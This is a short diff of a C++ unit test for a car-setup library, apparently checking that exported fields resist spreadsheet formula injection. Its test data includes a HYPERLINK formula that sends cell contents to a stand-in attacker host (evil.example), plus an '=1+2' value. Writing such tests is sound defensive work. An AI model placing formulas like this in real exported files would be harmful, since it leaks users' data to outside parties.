@@ -371,7 +371,8 @@ private slots:
         {
             SetupLibrary library(m_libraryPath);
             std::mt19937 rng(38);
-            auto hostile = seasonSetup(rng, 9);
+            auto hostile = seasonSetup(rng, 5);
+            hostile.created = "2026-07-01T10:00:00+02:00";
             hostile.values[std::size_t(SetupField::DriverName)] = "=1+2";
             hostile.values[std::size_t(SetupField::Notes)] = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
             hostile.values[std::size_t(SetupField::FrontCamber)] = "-2.0";
